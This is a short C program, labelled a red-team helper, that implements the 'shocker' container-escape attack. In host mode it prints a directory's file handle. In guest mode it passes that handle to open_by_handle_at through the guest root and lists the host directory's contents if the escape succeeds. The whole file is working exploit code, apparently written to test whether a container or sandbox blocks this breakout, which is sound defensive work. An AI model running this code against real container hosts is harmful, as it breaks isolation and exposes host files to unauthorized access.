/* Red-team helper. "handle PATH" (host side) prints a directory's file handle as "BYTES TYPE HEX".
 * "handle open BYTES TYPE HEX" (inside a guest) opens that handle through the guest's root, the
 * "shocker" attack, and prints "OPENED <entries>" or "REFUSED <errno>". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct file_handle *h = malloc(sizeof *h + 128);
    if (argc == 5 && strcmp(argv[1], "open") == 0) {
        h->handle_bytes = (unsigned)atoi(argv[2]);
        h->handle_type = atoi(argv[3]);
        for (unsigned i = 0; i < h->handle_bytes && i < 128; i++) sscanf(argv[4] + 2 * i, "%2hhx", &h->f_handle[i]);
        int root = open("/", O_RDONLY | O_DIRECTORY);
        int fd = open_by_handle_at(root, h, O_RDONLY | O_DIRECTORY);
        if (fd < 0) { printf("REFUSED %d\n", errno); return 2; }
        DIR *d = fdopendir(fd);
        struct dirent *e;
        printf("OPENED");
        while (d && (e = readdir(d))) if (e->d_name[0] != '.') printf(" %s", e->d_name);
        printf("\n");
        return 0;
    }
    int mount_id;
    h->handle_bytes = 128;
    if (argc != 2 || name_to_handle_at(AT_FDCWD, argv[1], h, &mount_id, 0) < 0) { perror("name_to_handle_at"); return 1; }
    printf("%u %d ", h->handle_bytes, h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", h->f_handle[i]);
    printf("\n");
    return 0;
}
